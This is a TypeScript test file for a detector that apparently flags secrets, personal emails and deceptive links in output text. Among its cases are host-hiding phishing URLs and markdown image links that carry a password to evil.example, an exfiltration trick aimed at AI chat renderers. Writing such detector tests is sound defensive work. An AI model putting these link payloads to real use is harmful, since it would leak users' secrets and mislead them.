import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { Inspector } from '../src/index.ts';

const inspector = new Inspector();
const found = (text: string): string[] =>
  inspector
    .inspect({ text, pointer: '', channel: 'output' })
    .filter(({ detector }) => ['secret', 'pii', 'link'].includes(detector))
    .map(({ detector, technique }) => `${detector}/${technique}`);
const PASSWORD = ['kR7v', 'Q2mZ', 'x9Lp'].join('');

describe('what stands for a credential', () => {
  for (const text of [
    'postgres://user:password@localhost:5432/app',
    'postgres://USER:PASSWORD@HOST:5432/DB',
    'mysql://root:root@localhost/app',
    'redis://:password@localhost:6379',
    'amqp://guest:guest@localhost',
    'mongodb://myuser:mypassword@mongo/db',
    'https://user:pass@host',
    'https://user:pass@example.com/x',
    'https://user@github.com/org/repo.git',
    'https://git@github.com/org/repo.git',
    '[the repository](https://git@github.com/org/repo.git)',
    'git clone git@github.com:org/repo.git',
    'https://oauth2:<token>@gitlab.com/a/b.git',
    'password: <your password>',
    'The password is <your password>.',
    'curl -u user:password https://api.example.com',
    'curl -u admin:<password> https://api.example.com',
    `AKIA${'IOSFODNN7'}EXAMPLE`,
    `aws_secret_access_key = ${'wJalrXUtnFEMI/K7MDENG/bPxRfiCY'}EXAMPLEKEY`,
  ])
    it(`is no finding: ${text}`, () => assert.deepEqual(found(text), []));

  it('hides no host where a name stands before a code host', () => {
    assert.deepEqual(found('https://octocat@gitlab.com/org/repo.git'), ['pii/email']);
  });

  const cases: readonly (readonly [string, string])[] = [
    [`postgres://user:${PASSWORD}@localhost:5432/app`, 'secret/database-url'],
    [`https://user:${PASSWORD}@intra.example/x`, 'secret/url-password'],
    ['postgres://postgres:postgres@db.corp.example/app', 'secret/database-url'],
    [`curl -u user:${PASSWORD} https://api.example.com`, 'secret/curl-auth-user'],
    [`postgres://user:password-${PASSWORD}@localhost/app`, 'secret/database-url'],
    [`AKIA${'QWER7YUIOPASDFGH'}`, 'secret/aws-access-token'],
    ['https://bank.example@evil.example/', 'link/link-hides-host'],
    ['https://bank.example:password@evil.example/', 'link/link-hides-host'],
    ['https://github.com@evil.example/', 'link/link-hides-host'],
    ['https://bank%2eexample@evil.example/', 'link/link-hides-host'],
    ['https://octocat@evil.example/', 'link/link-hides-host'],
    ['https://git:bank.example@evil.example/', 'link/link-hides-host'],
    [`![x](https://${PASSWORD}@evil.example/a.png)`, 'link/image-exfiltration'],
    [`![x](https://user:${PASSWORD}@evil.example/a.png)`, 'link/image-exfiltration'],
    ['![x](https://user:{blue-harbour}@evil.example/a.png)', 'link/image-exfiltration'],
    ['![x](https://$blueharbour@evil.example/a.png)', 'link/image-exfiltration'],
    ['mail jane.doe@corp.example', 'pii/email'],
    ['mailto://jane.doe@corp.example', 'pii/email'],
    ['https://jane@corp.example/', 'pii/email'],
  ];
  for (const [text, technique] of cases)
    it(`is told from ${text}`, () => assert.ok(found(text).includes(technique), found(text).join(' ')));
});
